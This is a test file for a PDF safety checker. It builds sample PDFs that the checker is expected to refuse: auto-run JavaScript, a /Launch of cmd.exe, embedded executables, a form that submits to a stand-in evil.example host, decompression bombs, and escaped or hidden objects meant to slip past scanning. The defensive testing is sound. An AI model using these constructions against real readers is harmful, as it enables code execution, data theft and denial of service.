import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { afterAll, describe, expect, it } from 'vitest';
import { tinyPdf } from '../../../../tests/helpers/pdf';
import {
	encode,
	encryptedPdf,
	filterArray,
	pageObjects,
	rawPdf,
	type Filter
} from '../../../../tests/helpers/raw-pdf';
import { PdfCheckPool, type PdfVerdict } from './pool';

const pool = new PdfCheckPool({ workers: 1, timeoutMs: 60_000, memoryMb: 256 });
afterAll(() => pool.close());

async function verdict(bytes: Uint8Array, on = pool): Promise<PdfVerdict> {
	return (await on.check(bytes)).verdict;
}

/** A one-page PDF whose catalog and page carry `catalog` / `page`, and `extra` objects from 4 on. */
function withObjects(catalog: string, page = '', extra: string[] = []): Uint8Array {
	return rawPdf([...pageObjects(catalog, page), ...extra]);
}

async function pdfLibPdf(objectStreams: boolean): Promise<Uint8Array> {
	const doc = await PDFDocument.create();
	const font = await doc.embedFont(StandardFonts.Helvetica);
	const page = doc.addPage([300, 300]);
	page.drawText('Zhicheng certificate', { x: 20, y: 150, size: 14, font });
	return doc.save({ useObjectStreams: objectStreams });
}

describe('the PDF check accepts', () => {
	it('plain PDFs from pdf-lib (with and without object streams)', async () => {
		expect(await pool.check(await pdfLibPdf(true))).toEqual({ verdict: 'ok', findings: [] });
		expect(await verdict(await pdfLibPdf(false))).toBe('ok');
	});

	it("LibreOffice's export (tests/fixtures/libreoffice-writer.pdf)", async () => {
		const bytes = readFileSync(
			new URL('../../../../tests/fixtures/libreoffice-writer.pdf', import.meta.url)
		);
		expect(await pool.check(bytes)).toEqual({ verdict: 'ok', findings: [] });
	});

	it('a file whose cross-reference offsets are wrong (a reader repairs it)', async () => {
		const base = Buffer.from(tinyPdf());
		const padded = Buffer.concat([
			base.subarray(0, 9),
			Buffer.alloc(100_000, 0x20),
			base.subarray(9)
		]);
		expect(await verdict(padded)).toBe('ok');
	});

	it('links, outlines and names that only look like the refused ones', async () => {
		const bytes = withObjects(
			'/Names << /Dests 5 0 R >>',
			'/Annots [4 0 R] /Resources << /Font << /JSON 6 0 R >> >>',
			[
				'<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.org) >> >>',
				'<< /Names [(a) [3 0 R /Fit]] >>',
				'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Name /JavaScripts >>'
			]
		);
		expect(await verdict(bytes)).toBe('ok');
	});
});

describe('the PDF check refuses JavaScript in any form', () => {
	const cases: [string, Uint8Array][] = [
		['an /OpenAction script', withObjects('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
		[
			'the /JavaScript name tree',
			withObjects('/Names << /JavaScript 4 0 R >>', '', [
				'<< /Names [(x) 5 0 R] >>',
				'<< /S /JavaScript /JS 6 0 R >>',
				{ dict: '', data: Buffer.from('app.alert(1)') } as never
			])
		],
		[
			'an action with a /JS key (a rendition)',
			withObjects('/OpenAction << /S /Rendition /JS (x) >>')
		],
		['an action of type /JavaScript', withObjects('/OpenAction << /S /JavaScript >>')],
		[
			'a /JavaScript name tree, even empty',
			withObjects('/Names << /JavaScript 4 0 R >>', '', ['<< /Names [] >>'])
		],
		[
			'additional actions (/AA) on a page',
			withObjects('', '/AA << /O 4 0 R >>', ['<< /S /GoTo /D [3 0 R /Fit] >>'])
		],
		[
			'a link annotation whose action is a script',
			withObjects('', '/Annots [4 0 R]', [
				'<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 5 0 R >>',
				'<< /Type /Action /S /JavaScript /JS (this.print()) >>'
			])
		]
	];
	it.each(cases)('%s', async (_name, bytes) => {
		expect(await verdict(bytes)).toBe('script');
	});
});

it('the PDF check refuses a script action set with pdf-lib low-level objects', async () => {
	const doc = await PDFDocument.create();
	doc.addPage([200, 200]);
	const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
	doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
	expect(await pool.check(await doc.save())).toMatchObject({ verdict: 'script' });
});

describe('the PDF check refuses other active content', () => {
	const cases: [string, Uint8Array][] = [
		['/Launch', withObjects('/OpenAction << /S /Launch /F (cmd.exe) >>')],
		[
			'an embedded file (/EmbeddedFiles name tree)',
			rawPdf([
				...pageObjects('/Names << /EmbeddedFiles 4 0 R >>'),
				'<< /Names [(a.exe) 5 0 R] >>',
				'<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
				{ dict: '/Type /EmbeddedFile', data: Buffer.from('MZ') }
			])
		],
		[
			'a file specification with an embedded file (/EF)',
			withObjects('', '', ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', '<< >>'])
		],
		[
			'an embedded file stream, referenced from nowhere',
			rawPdf([...pageObjects(), { dict: '/Type /EmbeddedFile', data: Buffer.from('MZ') }])
		],
		[
			'an /EmbeddedFiles name tree, even empty',
			withObjects('/Names << /EmbeddedFiles 4 0 R >>', '', ['<< /Names [] >>'])
		],
		[
			'a file attachment annotation',
			withObjects('', '/Annots [4 0 R]', [
				'<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.exe) >>'
			])
		],
		[
			'/SubmitForm',
			withObjects('/AcroForm << /Fields [4 0 R] >>', '/Annots [4 0 R]', [
				'<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://evil.example/) >> >>'
			])
		],
		['/ImportData', withObjects('/OpenAction << /S /ImportData /F (data.fdf) >>')],
		[
			'/RichMedia',
			withObjects('', '/Annots [4 0 R]', [
				'<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>'
			])
		],
		[
			'a /RichMedia annotation without its content',
			withObjects('', '/Annots [4 0 R]', [
				'<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>'
			])
		],
		[
			'/RichMediaContent',
			withObjects('', '', ['<< /RichMediaContent << /Assets 5 0 R >> >>', '<< /Names [] >>'])
		],
		[
			'an XFA form',
			withObjects('/AcroForm << /Fields [] /XFA 4 0 R >>', '', [
				'<< /Length 0 >>\nstream\n\nendstream'
			])
		]
	];
	it.each(cases)('%s', async (_name, bytes) => {
		expect(await verdict(bytes)).toBe('active');
	});
});

describe('the PDF check sees through spellings and layers', () => {
	it('names written with #xx escapes (either case of hex digit)', async () => {
		expect(await verdict(withObjects('/OpenAction << /S /J#61vaScript /J#53 (x) >>'))).toBe(
			'script'
		);
		expect(await verdict(withObjects('/OpenAction << /S /#4a#61#76#61Script >>'))).toBe('script');
		expect(await verdict(withObjects('/OpenAction << /S /L#61unch /F (cmd.exe) >>'))).toBe(
			'active'
		);
		expect(
			await verdict(withObjects('', '/#41#41 << /O 4 0 R >>', ['<< /S /GoTo /D [3 0 R /Fit] >>']))
		).toBe('script');
	});

	const layers: Filter[][] = [
		['FlateDecode'],
		['FlateDecode', 'FlateDecode'],
		['ASCIIHexDecode', 'FlateDecode'],
		['ASCII85Decode', 'FlateDecode', 'FlateDecode']
	];
	it.each(layers)('an action inside an object stream filtered %s', async (...filters) => {
		const objects = [
			...pageObjects('/OpenAction 4 0 R'),
			'<< /S /JavaScript /JS (app.alert(1)) >>'
		];
		const bytes = rawPdf(objects, { compress: [4], objStmFilters: filters });
		expect(await verdict(bytes)).toBe('script');
		const launch = rawPdf([...pageObjects('/OpenAction 4 0 R'), '<< /S /Launch /F (x) >>'], {
			compress: [4],
			objStmFilters: filters
		});
		expect(await verdict(launch)).toBe('active');
	});

	it('an object stream that no cross-reference lists', async () => {
		const inner = '4 0 << /S /JavaScript /JS (app.alert(1)) >>';
		const objects = [
			...pageObjects(),
			{
				dict: `/Type /ObjStm /N 1 /First 4 ${filterArray(['FlateDecode', 'FlateDecode'])}`,
				data: encode(Buffer.from(inner, 'latin1'), ['FlateDecode', 'FlateDecode'])
			}
		];
		expect(await verdict(rawPdf(objects, { unlisted: [4] }))).toBe('script');
	});

	it('an object written in the file but left out of the cross-reference', async () => {
		const bytes = rawPdf([...pageObjects(), '<< /S /Launch /F (cmd.exe) >>'], { unlisted: [4] });
		expect(await verdict(bytes)).toBe('active');
	});
});

describe('the PDF check refuses', () => {
	it('an encrypted file, even one that opens without a password', async () => {
		expect(await verdict(encryptedPdf())).toBe('encrypted');
	});

	it('a file the parser cannot read', async () => {
		expect(await verdict(Buffer.from('%PDF-1.7\nnothing a reader can use\n%%EOF\n'))).toBe(
			'unreadable'
		);
		// An object stream whose data does not decode: what it holds cannot be checked.
		const broken = rawPdf(
			[
				...pageObjects(),
				{ dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data: Buffer.from('not flate') }
			],
			{ unlisted: [4] }
		);
		expect(await verdict(broken)).toBe('unreadable');
		const pdf = Buffer.from(await pdfLibPdf(true));
		expect(await verdict(pdf.subarray(0, 400))).toBe('unreadable');
	});

	it('a file over the budget of decoded bytes as too complex, within the memory budget', async () => {
		const small = new PdfCheckPool({ workers: 1, timeoutMs: 60_000, memoryMb: 64 });
		try {
			const zeros = deflateSync(Buffer.alloc(100 * 1024 * 1024));
			const bomb = rawPdf([
				...pageObjects('', '/Contents 4 0 R'),
				{ dict: '/Filter /FlateDecode', data: zeros }
			]);
			expect(await verdict(bomb, small)).toBe('too_complex');
			// The pool goes on with the next file.
			expect(await verdict(tinyPdf(), small)).toBe('ok');
		} finally {
			await small.close();
		}
	});

	it('a file whose objects exhaust the heap budget as too complex', async () => {
		const small = new PdfCheckPool({ workers: 1, timeoutMs: 60_000, memoryMb: 64 });
		try {
			const huge = `[${'[0 0] '.repeat(3_000_000)}]`;
			expect(await verdict(withObjects('/Huge 4 0 R', '', [huge]), small)).toBe('too_complex');
			expect(await verdict(tinyPdf(), small)).toBe('ok');
		} finally {
			await small.close();
		}
	});

	it('a file over the time budget as too complex (its worker is ended)', async () => {
		const hasty = new PdfCheckPool({ workers: 1, timeoutMs: 1, memoryMb: 1024 });
		try {
			const zeros = deflateSync(Buffer.alloc(200 * 1024 * 1024));
			const slow = rawPdf([
				...pageObjects('', '/Contents 4 0 R'),
				{ dict: '/Filter /FlateDecode', data: zeros }
			]);
			expect(await verdict(slow, hasty)).toBe('too_complex');
		} finally {
			await hasty.close();
		}
	});
});

/**
 * Streams that hold no objects (page contents, images, fonts) are only counted against the
 * budget and must decode: a reader takes no action from their data, so nothing in them is read
 * as one. A plain FlateDecode stream is counted with Node's zlib; the rest through pdf.js.
 */
describe('the PDF check counts streams that hold no objects', () => {
	const content = (data: Uint8Array, dict = '/Filter /FlateDecode') =>
		rawPdf([...pageObjects('', '/Contents 4 0 R'), { dict, data }]);

	it('a script written in a page content stream is text on the page, no action', async () => {
		const text = Buffer.from('BT (/S /JavaScript /JS app.alert(1)) Tj ET', 'latin1');
		expect(await verdict(content(deflateSync(text)))).toBe('ok');
	});

	it('adds the decoded bytes of every stream up against the budget', async () => {
		const small = new PdfCheckPool({ workers: 1, timeoutMs: 60_000, memoryMb: 64 });
		try {
			// Each under the budget (and with a predictor-free /DecodeParms), together over it.
			const zeros = {
				dict: '/Filter /FlateDecode /DecodeParms << /Columns 1 >>',
				data: deflateSync(Buffer.alloc(30 * 1024 * 1024))
			};
			const three = rawPdf([
				...pageObjects('', '/Contents [4 0 R 5 0 R 6 0 R]'),
				zeros,
				zeros,
				zeros
			]);
			expect(await verdict(three, small)).toBe('too_complex');
			const one = rawPdf([...pageObjects('', '/Contents [4 0 R]'), zeros]);
			expect(await verdict(one, small)).toBe('ok');
		} finally {
			await small.close();
		}
	});

	it('refuses a stream whose data does not inflate, as unreadable', async () => {
		const broken = Buffer.concat([
			deflateSync(Buffer.from('BT ET')).subarray(0, 2),
			Buffer.from([0xff, 0xff, 0xff, 0xff])
		]);
		expect(await verdict(content(broken))).toBe('unreadable');
	});

	it('reads a stream without its checksum, and refuses one cut short, as pdf.js does', async () => {
		const whole = deflateSync(Buffer.from('BT /F1 12 Tf (Hello) Tj ET '.repeat(200)));
		expect(await verdict(content(whole.subarray(0, whole.length - 4)))).toBe('ok');
		expect(await verdict(content(whole.subarray(0, Math.floor(whole.length / 2))))).toBe(
			'unreadable'
		);
	});

	it('finds a script behind megabytes of padding after the header (no linearization probe)', async () => {
		// As bench/lib/stats.ts pdfOfSize: a correct cross-reference, the padding before object 1.
		const objects = [
			'<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
			'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
			'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'
		];
		let text = `%PDF-1.4\n%pad\n${' '.repeat(8 * 1024 * 1024)}\n`;
		const offsets = objects.map((body, i) => {
			const at = text.length;
			text += `${i + 1} 0 obj\n${body}\nendobj\n`;
			return at;
		});
		const xref = text.length;
		text += `xref\n0 4\n0000000000 65535 f \n`;
		for (const at of offsets) text += `${String(at).padStart(10, '0')} 00000 n \n`;
		text += `trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
		expect(await verdict(Buffer.from(text, 'latin1'))).toBe('script');
	});
});
